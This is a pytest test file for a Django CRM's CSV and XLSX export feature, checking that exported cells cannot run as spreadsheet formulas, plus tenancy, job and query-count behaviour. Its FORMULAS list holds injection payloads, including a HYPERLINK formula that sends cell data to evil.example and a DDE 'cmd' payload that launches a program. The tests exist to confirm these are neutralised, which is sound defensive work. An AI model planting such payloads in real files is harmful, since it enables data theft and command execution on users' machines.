"""Files of what is here: asked for on a page, made by a worker, harmless in a spreadsheet."""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from contextlib import nullcontext
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AuditEvent, Membership, Workspace
from accounts.tenancy import inside
from integrations.actions.exports import (
    TooManyExports,
    ask_for_export,
    forget_exports,
)
from integrations.exporting.sheets import write_csv, write_xlsx
from integrations.exporting.tables import TABLES, Table
from integrations.exporting.working import make
from integrations.importing.mappings import mapping_from, preset
from integrations.models import ExportChunk, ExportRun, ExportStatus
from opportunities.models import Company, Opportunity, ScheduleSlot
from stakeholders.models import Person, Stakeholder
from tests.factories import DAY, NOW
from tests.integrations.files import (
    RICH,
    exported,
    furnish,
    importing,
    in_order,
    write_bundle,
)

pytestmark = pytest.mark.django_db

PAGE = "/w/ours/settings/export"
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    '"=1+1"',
    "'=1+1",
    '=HYPERLINK("http://evil.example?d="&A1)',
    "=cmd|' /C calc'!A0",
    "＝1+1",  # noqa: RUF001
    "＋1+1",  # noqa: RUF001
    "\u200b=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a,=1+1",
    "|calc",
    "%0A=1",
)
GENUINE = ("-5", "-12.50", "12", "Delta; since 1990", "a - b", "k@delta.be")
STARTS = tuple("=+-@＝＋－＠|%")  # noqa: RUF001


def ask(by: Membership, contents: str, format: str = "csv", **more: Any) -> ExportRun:
    asked: dict[str, Any] = {"contents": contents, "format": format, "is_raw": False}
    return ask_for_export(**asked | more, by=by, now=NOW)


def work_off() -> None:
    for slot in ScheduleSlot.objects.filter(job="export").order_by("pk"):
        make(slot_id=slot.pk, door=nullcontext, now=lambda: NOW)


def made(by: Membership, contents: str, format: str = "csv", **more: Any) -> bytes:
    run = ask(by, contents, format, **more)
    work_off()
    pieces = ExportChunk.objects.filter(run=run).order_by("number")
    return b"".join(bytes(piece.data) for piece in pieces)


def rows(data: bytes, *, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_active(cell: str) -> bool:
    bare = cell.lstrip(" \0\t\r\n\u00a0\u200b\ufeff")
    return bare.startswith(STARTS) and not re.fullmatch(r"-\d+(\.\d+)?", cell)


def one_of(text: str) -> Table:
    """A table every cell of which says the same."""
    names = TABLES[3].columns
    return Table("stakeholders", names, lambda _today: iter([[text] * len(names)]))


# --- no cell is a formula ------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_for_spreadsheets_has_no_active_cell(formula: str, delimiter: str):
    file = io.BytesIO()
    write_csv(one_of(formula), file, today=DAY, is_raw=False)

    text = file.getvalue().decode("utf-8-sig").split("\r\n", 1)[1]

    told = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    assert [cell for row in told for cell in row if is_active(cell)] == []


@pytest.mark.parametrize("text", GENUINE)
def test_what_is_no_formula_is_left_as_it_is(text: str):
    file = io.BytesIO()
    write_csv(one_of(text), file, today=DAY, is_raw=False)

    assert rows(file.getvalue())[1] == [text] * 12


@pytest.mark.parametrize("text", [*FORMULAS, *GENUINE])
def test_a_raw_csv_is_to_the_letter(text: str):
    file = io.BytesIO()
    write_csv(one_of(text), file, today=DAY, is_raw=True)

    assert rows(file.getvalue())[1] == [text] * 12


@pytest.mark.parametrize("text", [*FORMULAS, *GENUINE])
def test_a_workbook_keeps_text_as_text_to_the_letter(text: str):
    file = io.BytesIO()
    write_xlsx([one_of(text)], file, today=DAY, zone=ZoneInfo("UTC"))

    (sheet,) = load_workbook(file).worksheets
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    # XML reads a lone return as the end of a line.
    assert {cell.value for cell in cells} == {text.replace("\r", "\n")}


def test_a_workbook_has_numbers_and_days_as_such():
    table = Table("x", ("a", "b", "c"), lambda _t: iter([(Decimal("-12.50"), DAY, 3)]))
    file = io.BytesIO()
    write_xlsx([table], file, today=DAY, zone=ZoneInfo("UTC"))

    (sheet,) = load_workbook(file).worksheets
    cells = next(sheet.iter_rows(min_row=2))
    assert [cell.data_type for cell in cells] == ["n", "d", "n"]
    assert cells[0].value == -12.5


def test_every_text_of_every_table_is_made_harmless(alice: Membership):
    """All at once: the same formula in every field that somebody can fill."""
    furnish()
    formula = "=1+1"
    company = Company.objects.create(name=formula, domain=formula, country="=1")
    person = Person.objects.create(
        name=formula,
        company=company,
        email="=1@x.be",
        title=formula,
        phone=formula,
        language="=1",
    )
    deal = Opportunity.objects.create(
        name=formula, company=company, owner=alice, opened_on=DAY, external_id="=1"
    )
    Stakeholder.objects.create(
        opportunity=deal,
        person=person,
        joined_on=DAY,
        goals=formula,
        criteria=formula,
        worries=formula,
    )

    data = made(alice, "all")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        cells = [c for n in names for row in rows(archive.read(n)) for c in row]
    assert names == [f"{table.name}.csv" for table in TABLES]
    assert len([cell for cell in cells if "=1" in cell]) > 15
    assert [cell for cell in cells if is_active(cell)] == []


# --- what is in them -----------------------------------------------------------------


def test_each_table_has_a_row_for_each_that_stands(alice: Membership, tmp_path: Path):
    furnish()
    importing(write_bundle(tmp_path / "rich.jsonl", RICH))

    book = load_workbook(io.BytesIO(made(alice, "all", "xlsx")))

    told = {sheet.title: sheet.max_row - 1 for sheet in book.worksheets}
    of_bundle = {
        name: sum(line["type"] == kind for line in RICH)
        for name, kind in (
            ("companies", "company"),
            ("people", "person"),
            ("opportunities", "opportunity"),
            ("stakeholders", "stakeholder"),
            ("interactions", "interaction"),
        )
    }
    assert told == of_bundle


def test_a_raw_table_of_deals_comes_back_and_changes_nothing(
    alice: Membership, tmp_path: Path
):
    furnish()
    path = tmp_path / "deals.csv"
    path.write_text(
        "id,name,opened_on,owner_name,company,amount,currency,outcome,closed_on\n"
        'o1,"=Plan, -5",2026-01-05,Dora,+Delta,12000.50,EUR,,\n'
        "o2,Press,2026-02-05,Dora,+Delta,-0,EUR,lost,2026-03-01\n",
        encoding="utf-8",
    )
    mapping = mapping_from("plain", preset("plain") | {"ignored": ["company_id"]})
    assert importing(path, mapping=mapping).refused == []

    path.write_bytes(made(alice, "opportunities", is_raw=True))
    report = importing(path, mapping=mapping)

    assert report.refused == []
    assert (report.total("made"), report.total("changed")) == (0, 0)


def test_a_bundle_is_what_the_command_writes(alice: Membership, tmp_path: Path):
    furnish()
    importing(write_bundle(tmp_path / "rich.jsonl", RICH))

    data = made(alice, "bundle", "xlsx")

    path = tmp_path / "rich.jsonl"
    path.write_bytes(data)
    report = importing(path)
    assert report.refused == []
    assert report.total("made") == report.total("changed") == 0
    assert exported(alice.workspace) == in_order(RICH)


def test_nothing_of_another_workspace_is_in_it(alice: Membership, charlie: Membership):
    with inside(connection, charlie.workspace_id):
        Company.objects.create(name="Theirs")
    Company.objects.create(name="Ours")

    assert [row[1] for row in rows(made(alice, "companies"))] == ["name", "Ours"]


# --- how they are made ---------------------------------------------------------------


def test_a_file_is_asked_for_made_and_taken(as_alice: Client, alice: Membership):
    Company.objects.create(name="Delta")
    as_alice.post(PAGE, {"contents": "companies", "format": "csv"})
    run = ExportRun.objects.get()
    waiting = as_alice.get(PAGE).content.decode()
    early = as_alice.get(f"{PAGE}/{run.pk}")
    for slot in ScheduleSlot.objects.filter(job="export"):
        make(slot_id=slot.pk, door=nullcontext, now=timezone.now)

    ready = as_alice.get(PAGE).content.decode()
    answer = as_alice.get(f"{PAGE}/{run.pk}")

    assert "every 1s" in waiting
    assert "every 1s" not in ready
    assert early.status_code == 303
    assert rows(answer.content)[1][1] == "Delta"
    assert answer.headers["Content-Disposition"].startswith(
        'attachment; filename="companies-'
    )
    verbs = AuditEvent.objects.filter(verb__startswith="export.").order_by("pk")
    assert [event.verb for event in verbs] == ["export.asked", "export.downloaded"]
    assert not ScheduleSlot.objects.filter(job="export").exists()


def test_a_file_goes_after_a_day(as_alice: Client, alice: Membership):
    run = ask(alice, "companies")
    work_off()

    assert as_alice.get(f"{PAGE}/{run.pk}").status_code == 303  # NOW is long ago
    forget_exports(now=NOW + timedelta(days=1, minutes=1))

    assert not ExportRun.objects.exists()
    assert not ExportChunk.objects.exists()


def test_one_that_can_not_be_made_is_given_up(alice: Membership):
    run = ask(alice, "companies")
    ExportRun.objects.filter(pk=run.pk).update(attempts=3)

    work_off()

    assert ExportRun.objects.get().status == ExportStatus.FAILED
    assert not ScheduleSlot.objects.filter(job="export").exists()


def test_a_fourth_at_once_waits(alice: Membership):
    for _time in range(3):
        ask(alice, "companies")

    with pytest.raises(TooManyExports):
        ask(alice, "people")

    assert ExportRun.objects.count() == 3


def test_a_task_that_is_sent_twice_makes_one_file(alice: Membership):
    run = ask(alice, "companies")
    slot = ScheduleSlot.objects.get(job="export")

    for _time in range(2):
        make(slot_id=slot.pk, door=nullcontext, now=lambda: NOW)

    assert ExportChunk.objects.filter(run=run).count() == 1


def test_a_large_file_is_kept_in_pieces(
    alice: Membership, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("integrations.exporting.working.PIECE", 100)
    Company.objects.bulk_create([Company(name=f"Delta {n}") for n in range(50)])

    data = made(alice, "companies")

    assert ExportChunk.objects.count() > 10
    assert len(rows(data)) == 51


@pytest.mark.parametrize("files", [1, 3])
def test_the_page_costs_the_same_whatever_it_lists(
    as_alice: Client,
    alice: Membership,
    cost_of: Callable[..., list[str]],
    files: int,
):
    for _time in range(files):
        ask_for_export(
            contents="people",
            format="csv",
            is_raw=False,
            by=alice,
            now=timezone.now(),
        )

    assert len(cost_of(as_alice, PAGE)) == 5


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
@pytest.mark.parametrize("copies", [1, 3])
def test_the_queries_of_a_table_do_not_grow_with_its_rows(
    alice: Membership,
    ours: Workspace,
    tmp_path: Path,
    django_assert_num_queries: Any,
    table: Table,
    copies: int,
):
    furnish()
    for n in range(copies):
        importing(write_bundle(tmp_path / f"{n}.jsonl", RICH))
    wanted = {"stakeholders": 3, "interactions": 3}.get(table.name, 1)

    with django_assert_num_queries(wanted):
        assert list(table.rows(date(2026, 5, 4)))
